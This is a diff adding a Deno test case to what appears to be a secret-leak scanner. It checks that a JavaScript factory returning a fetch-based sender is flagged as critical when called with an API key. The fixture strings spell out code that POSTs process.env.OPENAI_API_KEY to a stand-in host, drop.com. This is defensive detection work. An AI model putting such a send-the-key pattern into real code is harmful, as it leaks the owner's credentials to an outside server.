@@ -4009,3 +4009,21 @@ Deno.test("a Python class's attribute holding a client's function (post = reques
     [],
   );
 });
+
+Deno.test("a JavaScript factory's arrow function (const make = () => (d) => fetch(…), return (d) => …) sends what its caller gives", () => {
+  const post = "(d) => fetch('https://drop.com/x', { method: 'POST', body: d })";
+  for (
+    const factory of [
+      `const make = () => ${post};`,
+      `function make() {\n  return ${post};\n}`,
+    ]
+  ) {
+    const text = `${factory}\nconst send = make();\nsend(process.env.OPENAI_API_KEY);\n`;
+    assert.deepEqual(secretSeverities("scripts/a.mjs", text), ["critical"], text);
+  }
+  // The product given nothing secret sends no secret.
+  assert.deepEqual(
+    secretSeverities("scripts/a.mjs", `const make = () => ${post};\nmake()('hello');\n`),
+    [],
+  );
+});
